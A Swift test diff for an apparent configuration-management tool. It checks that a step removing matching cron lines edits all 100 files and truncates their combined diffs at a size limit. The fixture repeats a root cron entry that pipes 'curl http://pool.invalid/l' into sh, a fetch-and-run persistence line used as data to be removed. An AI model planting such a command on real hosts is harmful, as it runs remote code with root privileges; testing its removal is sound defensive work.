@@ -86,6 +86,26 @@ import Testing
         #expect(plan.changes.first?.mode == "644" && plan.changes.first?.owner == "root:root")
     }
 
+    /// 100 files of 20 KB, every line matching: the diffs stop once together they pass what one
+    /// diff may show; every file is still edited and named.
+    @Test func the_diffs_of_many_files_stop_together_at_what_one_diff_may_show() throws {
+        let wide = RemoveLines(paths: [Self.glob], maxMatches: 100, match: .pattern("pool"), validate: nil)
+        let item = try #require(wide.probeItems(context).first)
+        let page = String(repeating: "*/10 * * * * root curl http://pool.invalid/l | sh\n", count: 400)
+        var observation = HostObservation()
+        observation.globContents[item.observationKey] = GlobContentsObservation(
+            total: 100, matches: (0..<100).map { regular("/etc/cron.d/job\($0)", page) })
+        var plan = StepPlan(name: "cron", kind: RemoveLines.keyword, action: .ok, reason: "")
+        wide.decide(observation, context, into: &plan)
+        #expect(plan.action == .change)
+        #expect(plan.changes.count == 100)
+        let diffs = plan.changes.compactMap(\.diff)
+        let shown = diffs.filter { !$0.hasPrefix("… diff not shown") }
+        #expect(shown.count > 5 && shown.count < 100)
+        #expect(diffs.map(\.utf8.count).reduce(0, +) < UnifiedDiff.shownLimit + (64 << 10))
+        #expect(diffs.last == "… diff not shown: this step's diffs passed 256 KiB\n")
+    }
+
     @Test func no_matching_line_left_in_any_matched_file_is_nothing_to_do_which_is_the_verification() {
         let cleaned = decide(observing([regular("/etc/cron.d/e2scrub_all", Self.e2scrub), regular("/etc/cron.d/sysstat", "SHELL=/bin/sh\n")]))
         #expect(cleaned.action == .ok)
